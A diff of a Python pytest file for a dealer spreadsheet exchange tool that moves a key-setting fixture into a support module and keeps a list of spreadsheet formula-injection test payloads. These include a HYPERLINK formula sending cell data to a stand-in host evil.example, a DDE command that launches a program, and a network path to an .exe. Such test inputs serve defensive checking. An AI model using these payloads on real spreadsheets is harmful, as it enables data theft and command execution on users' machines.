@@ -17,19 +17,14 @@ from pathlib import Path
 import pandas as pd
 import pytest
 from python_calamine import CalamineWorkbook
-from test_exchange import TEST_KEY, fill, monthly_rows
+from support.keys import department_key  # noqa: F401  (fixture)
+from test_exchange import fill, monthly_rows
 
-from dealerxl.exchange.manifest import KEY_VARIABLE
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&B2,"Click me")', "=cmd|' /C calc'!A0",
             "external:\\\\evil.example\\share\\x.exe", "https://evil.example/login", "+1+1", "@SUM(1,2)"]
 MONTH = "2026-10"
 DEALERS = ["D00001", "D00002", "D00003", "D00004", "D00007", "D00008"]  # current dealers: they get reminders
-
-
-@pytest.fixture(autouse=True)
-def department_key(monkeypatch):
-    monkeypatch.setenv(KEY_VARIABLE, TEST_KEY)
 
 
 @pytest.fixture(scope="module")
